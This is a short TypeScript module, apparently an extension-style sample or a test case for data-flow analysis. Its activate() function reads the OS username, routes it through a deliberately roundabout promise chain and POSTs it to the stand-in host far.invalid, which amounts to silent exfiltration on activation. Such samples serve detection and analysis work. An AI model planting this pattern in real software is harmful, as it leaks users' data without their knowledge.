import * as os from 'os';
const name = () => os.userInfo().username;
const later = async () => { await new Promise((done) => setTimeout(done, 1)); return name(); };
const send = (data: unknown) => { fetch('https://far.invalid/', { method: 'POST', body: String(data) }); };

function carry() { return later().then(v => ({ v })).then(({ v }) => [v]).then(([v]) => v).finally(() => {}); }

export async function activate() {
  send(await carry());
}
